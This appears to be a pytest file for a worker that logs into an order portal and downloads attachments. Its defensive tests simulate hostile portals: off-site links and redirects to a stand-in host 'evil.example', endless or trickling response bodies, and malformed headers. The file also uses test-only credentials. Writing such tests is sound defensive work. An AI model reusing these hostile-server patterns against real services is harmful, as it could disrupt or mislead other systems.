    from ackflow.chat.events import EventFormat
    from ackflow.chat.limits import message_problems
    from ackflow.chat.replies import message_json

    docs = SqliteDocuments(str(tmp_path / "store.db"))
    known = known_clients(docs, sheet)
    client = guess("acme.co.jp", "ACME 営業部", known, None)
    record = {"id": "m1", "status": "PROPOSED", "sender_address": "eigyo@acme.co.jp", "sender_name": "ACME 営業部",
              "subject": "見積依頼", "received_at": 0, "client_guess": client}
    assert message_problems(message_json(mail_card(record), EventFormat.CLASSIC, "https://x")) == []
    assert known == ["山田製作所"] and client is None


def test_column_letters():
    assert [column_letter(n) for n in (1, 26, 27, 52, 703)] == ["A", "Z", "AA", "AZ", "AAA"]


# -- the portal --------------------------------------------------------------------------------
@pytest.fixture
def site():
    portal = portal_site.Portal()
    yield portal
    portal.stop()


def fetcher(site, **options) -> PortalClient:
    values = dict(allowed_hosts=[site.host], timeout=2, max_bytes=100_000, max_pages=5, retries=2)
    values.update(options)
    return PortalClient(site.url, **values)


def test_login_pages_and_downloads_the_orders_attachments(site, tmp_path):
    storage = LocalStorage(tmp_path)
    fetched = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-1042", storage, "case/portal")
    assert [f["name"] for f in fetched.files] == ["drawing-A12.pdf", "仕様書.txt"]
    assert storage.read("case/portal/drawing-A12.pdf") == portal_site.DRAWING
    # PO-1042 is on the third page: the fetcher followed the list's "next" links to it, no further
    pages = [r for r in site.requests if r.startswith("GET /orders?page=")]
    assert pages == ["GET /orders?page=2", "GET /orders?page=3"]
    assert "GET /orders/PO-1042" in site.requests
    again = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-1042", storage, "case/portal")
    assert again.files == fetched.files and site.downloads.count("drawing-A12.pdf") == 1


def test_a_wrong_password_is_a_permanent_failure(site):
    with pytest.raises(PermanentError, match="could not log in") as refused:
        fetcher(site).login(portal_site.USERNAME, "wrong")
    said = refused.value.render(Speaker("ja"))  # on the card of a Japanese requester
    assert said.startswith(f"ポータルに {portal_site.USERNAME} としてログインできませんでした。"), said


def test_an_unknown_order_is_a_permanent_failure(site):
    client = fetcher(site)
    client.login(portal_site.USERNAME, portal_site.PASSWORD)
    with pytest.raises(PermanentError, match="PO-9999 is not on the portal"):
        client.find_order("PO-9999")


def test_5xx_answers_are_retried(site):
    site.fail_next = 2
    fetcher(site).login(portal_site.USERNAME, portal_site.PASSWORD)  # succeeds on the third try
    site.fail_next = 10
    with pytest.raises(TransientError):
        fetcher(site).login(portal_site.USERNAME, portal_site.PASSWORD)


def test_a_slow_portal_times_out_as_a_transient_failure(site):
    site.slow_next = 3
    started = time.monotonic()
    with pytest.raises(TransientError):
        fetcher(site, timeout=0.5, retries=0).login(portal_site.USERNAME, portal_site.PASSWORD)
    assert time.monotonic() - started < 2.5


def test_files_over_the_size_limit_are_skipped_and_said_so(site, tmp_path):
    storage = LocalStorage(tmp_path)
    fetched = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-2000", storage, "c")
    assert [f["name"] for f in fetched.files] == ["small.txt"]
    assert fetched.skipped[0]["name"] == "huge.bin" and "limit" in fetched.skipped[0]["reason"]
    japanese = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-2000", storage, "c",
                       speaker=Speaker("ja"))
    assert "バイトを超えています" in japanese.skipped[0]["reason"], japanese.skipped  # said in the job's language


def test_only_allowed_hosts_are_contacted(site):
    with pytest.raises(PermanentError, match="not an allowed portal host"):
        PortalClient(site.url, allowed_hosts=["portal.acme.example"])
    client = fetcher(site)
    client.login(portal_site.USERNAME, portal_site.PASSWORD)
    with pytest.raises(PermanentError, match="evil.example is not an allowed"):
        client.request("GET", site.url + "/elsewhere")


def test_a_hostile_order_page_files_what_it_may_under_safe_unique_names_and_skips_the_rest(site, tmp_path):
    storage = LocalStorage(tmp_path)
    fetched = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-6666", storage, "c/PO-6666")
    saved = {f["name"]: storage.read(f["path"]) for f in fetched.files}
    assert saved == portal_site.HOSTILE_SAVED  # one file each, none lost (plan.pdf and Plan.PDF, NFC and NFD)
    long = next(name for name in saved if name.startswith("図"))
    assert long.endswith(".pdf") and len(long.encode()) <= 120  # cut, its extension kept
    assert all(unicodedata.is_normalized("NFC", name) for name in saved)
    skipped = {s["name"]: s["reason"] for s in fetched.skipped}
    assert set(skipped) == portal_site.HOSTILE_SKIPPED
    assert "evil.example is not an allowed portal host" in skipped["off-site.pdf"]
    assert "evil.example is not an allowed portal host" in skipped["moved.pdf"]  # the redirect's target
    assert "not a readable URL" in skipped["bad-port.pdf"] and "404" in skipped["gone.pdf"]
    assert sorted(storage.list("c")) == sorted(f"c/PO-6666/{name}" for name in saved)
    again = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-6666", storage, "c/PO-6666")
    assert again.files == fetched.files and len(site.downloads) == len(saved)  # a retry fetches nothing again


def test_an_order_page_of_thousands_of_links_files_a_bounded_number_and_says_the_rest(tmp_path):
    """2,000 attachment links on an order page were all downloaded, then the case record listing
    them was refused by the store (1.6 MB; Firestore takes 1 MiB): the step failed after every
    download, on each of the queue's attempts. At most MAX_FILES are fetched now; the rest is one
    skipped entry, in the person's language, and the record is kept."""
    from ackflow.store.sqlite import SqliteDocuments
    from workers.office.cases import CaseRecords
    from workers.office.portal import MAX_FILES

    many = {f"図面-{n:05d}-" + "あ" * 20 + ".pdf": b"x" for n in range(2000)}
    portal = portal_site.Portal([portal_site.Order("PO-9999", "図面一式", many)])
    try:
        storage = LocalStorage(tmp_path / "cases", link_base="http://127.0.0.1:1/cases")
        folder = "2026-001_ACME_" + "金型" * 20 + "/01_受領資料/portal/PO-9999"
        fetched = collect(fetcher(portal), portal_site.USERNAME, portal_site.PASSWORD, "PO-9999", storage, folder,
                          speaker=Speaker("ja", "Asia/Tokyo"))
        assert len(fetched.files) == len(portal.downloads) == MAX_FILES
        assert [s["name"] for s in fetched.skipped] == ["…"]
        assert "1,800" in fetched.skipped[0]["reason"] and "200" in fetched.skipped[0]["reason"]
        assert "残りの 1,800 件は取得しません" in fetched.skipped[0]["reason"]  # said in the person's language
        records = CaseRecords(SqliteDocuments(str(tmp_path / "store.db")))
        records.update("2026-001", "job-1", documents=[{"key": f["path"], **f, "order": "PO-9999"}
                                                        for f in fetched.files])
        assert len(records.get("2026-001")["documents"]) == MAX_FILES
    finally:
        portal.stop()


@pytest.mark.parametrize("length, outcome", [("2, 2", b"ok"), ("abc", b"ok"), ("200000, 200000", "skipped")])
def test_a_content_length_as_a_portal_may_send_it_is_read_not_a_crash(length, outcome):
    from workers.office.portal import Skipped

    def app(environ, start_response):  # raw WSGI: the header exactly as written
        start_response("200 OK", [("Content-Length", length), ("Content-Type", "application/pdf")])
        return [b"ok"]

    server = ServerThread(app).start()
    try:
        client = PortalClient(server.url, allowed_hosts=[f"127.0.0.1:{server.port}"], timeout=2, retries=0,
                              max_bytes=100_000)
        if outcome == "skipped":
            with pytest.raises(Skipped, match="over the 100,000-byte limit"):
                client.download(server.url + "/drawing.pdf")
        else:
            assert client.download(server.url + "/drawing.pdf") == outcome
    finally:
        server.stop()


def test_a_portal_page_that_never_ends_is_refused_not_read_into_memory():
    from workers.office.portal import PAGE_MAX_BYTES

    sent = []

    def app(environ, start_response):  # a login page that goes on for ever
        start_response("200 OK", [("Content-Type", "text/html")])

        def body():
            while True:
                sent.append(1)
                yield b"<p>" + b"x" * 65_536 + b"</p>"

        return body()

    server = ServerThread(app).start()
    try:
        client = PortalClient(server.url, allowed_hosts=[f"127.0.0.1:{server.port}"], timeout=2, retries=0)
        with pytest.raises(PermanentError, match="is over 5,242,880 bytes"):
            client.login("u", "p")
        assert len(sent) * 65_543 < PAGE_MAX_BYTES * 3  # stopped reading soon after the limit
    finally:
        server.stop()


@pytest.mark.parametrize("what", ["page", "file"])
def test_a_portal_that_sends_a_body_a_few_bytes_at_a_time_is_given_up_on_in_time(what):
    """Each byte arrives within the request timeout, so the timeout alone never ends it: a body is
    read within READ_TIMEOUTS timeouts, then the step is retried later (a transient failure)."""
    import time as clock

    from workers.office.portal import READ_TIMEOUTS

    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/html" if what == "page" else "application/pdf")])

        def body():
            for _ in range(10_000):
                clock.sleep(0.05)
                yield b"x"

        return body()

    server = ServerThread(app).start()
    try:
        client = PortalClient(server.url, allowed_hosts=[f"127.0.0.1:{server.port}"], timeout=0.2, retries=0)
        started = clock.monotonic()
        with pytest.raises(TransientError, match="too slowly"):
            if what == "page":
                client.login("u", "p")
            else:
                client.download(server.url + "/order/1/drawing.pdf")
        assert clock.monotonic() - started < 0.2 * READ_TIMEOUTS + 2
    finally:
        server.stop()


def test_credentials_from_env_and_file(monkeypatch, tmp_path):
    monkeypatch.setenv("ACME_PORTAL", json.dumps({"username": "u", "password": "p"}))
    assert resolve_credentials("env:ACME_PORTAL") == ("u", "p")
    path = tmp_path / "c.json"
    path.write_text(json.dumps({"username": "f", "password": "q"}))
    assert resolve_credentials(f"file:{path}") == ("f", "q")
    for bad in ("env:MISSING_VAR", "file:/no/such/file", "plain", "file:" + str(tmp_path)):
        with pytest.raises(PermanentError):
            resolve_credentials(bad)


@pytest.fixture
def secret_manager():
    from tests.support.secrets import SecretManager

    service = SecretManager()
    yield service
    service.stop()


def test_credentials_from_secret_manager_through_the_official_client(secret_manager):
    secret = "projects/office/secrets/acme-portal"
    secret_manager.add(secret, b'{"username": "old", "password": "x"}')
    secret_manager.add(secret, json.dumps({"username": "acme", "password": "パス"}).encode())
    endpoint = secret_manager.url
    assert resolve_credentials(f"secret:{secret}/versions/latest", secrets_endpoint=endpoint) == ("acme", "パス")
    assert resolve_credentials(f"secret:{secret}/versions/1", secrets_endpoint=endpoint) == ("old", "x")
    assert secret_manager.accessed == [f"{secret}/versions/2", f"{secret}/versions/1"]


def test_secret_manager_failures_say_what_to_do(secret_manager, monkeypatch):
    from ackflow_tools.devtools.procs import free_port

    secret = "projects/office/secrets/acme-portal"
    secret_manager.add(secret, b'{"username": "acme", "password": "p"}')
    endpoint = secret_manager.url
    latest = f"secret:{secret}/versions/latest"
    with pytest.raises(PermanentError, match="not found"):
        resolve_credentials("secret:projects/office/secrets/nobody/versions/latest", secrets_endpoint=endpoint)
    with pytest.raises(PermanentError, match="is not a secret version.*secret:projects/PROJECT/secrets/NAME"):
        resolve_credentials("secret:acme-portal", secrets_endpoint=endpoint)
    secret_manager.denied.add(secret)
    with pytest.raises(PermanentError, match="roles/secretmanager.secretAccessor"):
        resolve_credentials(latest, secrets_endpoint=endpoint)
    secret_manager.denied.clear()
    secret_manager.corrupt = True
    with pytest.raises(TransientError, match="CRC32C"):
        resolve_credentials(latest, secrets_endpoint=endpoint)
    secret_manager.corrupt = False
    secret_manager.unavailable = True
    monkeypatch.setattr("workers.office.portal.SECRET_DEADLINE", 0.5)
    with pytest.raises(TransientError, match="Secret Manager"):
        resolve_credentials(latest, secrets_endpoint=endpoint)
    with pytest.raises(TransientError, match="Secret Manager"):
        resolve_credentials(latest, secrets_endpoint=f"http://127.0.0.1:{free_port()}")
    secret_manager.unavailable = False
    assert resolve_credentials(latest, secrets_endpoint=endpoint) == ("acme", "p")


def test_a_sheet_service_that_does_not_answer_is_a_transient_failure(tmp_path):
    from ackflow_tools.devtools.procs import free_port

    key = LocalSigner.generate("sa")
    credentials = tmp_path / "sa.json"
    dead = f"http://127.0.0.1:{free_port()}"
    credentials.write_text(json.dumps({
        "type": "service_account", "project_id": "p", "private_key_id": key.kid, "private_key": key.key_pem.decode(),
        "client_email": "w@p.iam.gserviceaccount.com", "client_id": "1", "token_uri": dead + "/token",
        "universe_domain": "local.invalid"}))
    with pytest.raises(TransientError):
        CaseSheet("book", "Cases", endpoint=dead, credentials_file=str(credentials)).upsert("2026-001", {})
    with pytest.raises(PermanentError, match="no usable Google credentials"):
        CaseSheet("book", "Cases", endpoint=dead, credentials_file=str(tmp_path / "missing.json")).upsert("x", {})


def test_cloud_storage_refusing_a_request_as_bad_is_not_retried():
    """A 400 (an invalid bucket or object name) is refused again however often it is sent: the job
    fails at once with what to check, instead of the queue retrying it to its limit."""
    from google.api_core import exceptions

    from ackflow.errors import PermanentError, TransientError
    from ackflow.i18n import L_, Speaker
    from workers.office.storage import GcsStorage

    storage = GcsStorage("Bad Bucket!")
    with pytest.raises(PermanentError) as refused, storage._translated(L_("create {path}", path="x")):
        raise exceptions.BadRequest("Invalid bucket name: 'Bad Bucket!'")
    assert "ACKFLOW_OFFICE_GCS_BUCKET" in refused.value.render(Speaker("en", "UTC"))
    with pytest.raises(TransientError), storage._translated(L_("create {path}", path="x")):
        raise exceptions.ServiceUnavailable("try again")
